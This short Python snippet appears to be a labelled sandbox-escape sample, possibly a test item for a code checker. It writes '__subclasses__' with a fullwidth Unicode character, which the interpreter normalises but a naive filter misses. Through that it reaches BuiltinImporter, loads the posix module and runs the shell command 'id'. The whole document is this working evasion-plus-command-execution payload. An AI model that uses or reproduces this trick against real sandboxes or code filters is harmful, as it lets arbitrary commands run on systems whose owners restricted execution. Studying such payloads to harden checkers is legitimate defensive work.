# HARM: shell via BuiltinImporter | TRICK: NFKC identifier normalisation: attribute spelled with fullwidth 'ｓ' (U+FF53) is __subclasses__ to CPython but not to the checker
for k in object.__ｓubclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
